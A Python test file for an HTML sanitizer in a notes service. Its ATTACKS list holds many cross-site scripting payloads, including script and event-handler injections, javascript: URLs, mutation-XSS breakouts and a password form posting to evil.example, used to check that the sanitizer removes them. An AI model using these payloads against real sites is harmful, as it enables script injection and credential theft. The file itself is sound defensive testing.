"""HTML of a note: nothing of it can run, load or leave its place; its text stays."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from eddyline.service.notes.clean import clean

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    '<img src="https://evil.example/pixel.png">',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    "<svg onload=alert(1)><circle/></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\tscript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="//evil.example">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
    '<div style="position:fixed;inset:0">over everything</div>',
    '<div class="q-btn" id="main" onclick="alert(1)">x</div>',
    "<style>body{display:none}</style>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<object data="x"></object><embed src="x">',
    '<video src="https://evil.example/x" autoplay></video>',
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "{{constructor.constructor('alert(1)')()}}<div ng-app v-html='x'>y</div>",
]
ALLOWED = {"href", "title", "src", "alt", "width", "height", "value", "start", "colspan", "rowspan"}
ALLOWED |= {"align", "scope", "rel", "target"}
FORBIDDEN = {"script", "style", "iframe", "object", "embed", "form", "input", "button", "svg"}
FORBIDDEN |= {"math", "meta", "base", "link", "video", "audio", "textarea", "select", "template"}


class Reader(HTMLParser):
    """All tags and attributes of a text."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]


def assert_harmless(text: str) -> None:
    reader = Reader(text)
    assert not FORBIDDEN & set(reader.tags)
    for name, value in reader.attributes:
        assert name in ALLOWED, name
        if name == "href":
            assert re.match(r"(https?://|mailto:|#|/(?![/\\]))", value, re.IGNORECASE), value
        if name == "src":
            assert value.startswith("data:image/"), value
            assert "svg" not in value


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_of_an_attack_is_left(attack: str) -> None:
    assert_harmless(clean(attack))


@given(st.text(alphabet="<>/=\"'` aimgsrconerrorscript:()!-&#x;\n", max_size=120))
def test_no_text_makes_anything_that_runs(text: str) -> None:
    assert_harmless(clean(text))


@given(st.lists(st.sampled_from([*ATTACKS, "<b>", "</b>", "<table><tr>", "x"]), max_size=8))
def test_nor_do_attacks_within_attacks(parts: list[str]) -> None:
    text = clean("".join(parts))
    assert_harmless(text)
    assert_harmless(clean(text))


def test_words_keep_their_shape() -> None:
    text = '<h3>Title</h3><p>a <code>b</code> <a href="https://flink.apache.org">c</a></p>'
    cleaned = clean(text)
    assert "<h3>Title</h3>" in cleaned
    assert "<code>b</code>" in cleaned
    assert (
        '<a href="https://flink.apache.org" rel="noopener noreferrer" target="_blank">' in cleaned
    )


def test_open_tags_are_closed_so_that_the_page_around_stays_whole() -> None:
    assert clean("<div><table><tr><td>x") == "<div><table><tr><td>x</td></tr></table></div>"
    assert clean("</div></section>x") == "x"


def test_text_stays_text() -> None:
    assert clean("1 < 2 & 3 > 2") == "1 &lt; 2 &amp; 3 &gt; 2"
    assert clean("&lt;script&gt;") == "&lt;script&gt;"


def test_a_picture_in_the_note_is_shown() -> None:
    cleaned = clean('<img alt="a" width="20" src="data:image/png;base64,iVBORw0KGgo=">')
    assert cleaned == '<img alt="a" width="20" src="data:image/png;base64,iVBORw0KGgo=">'
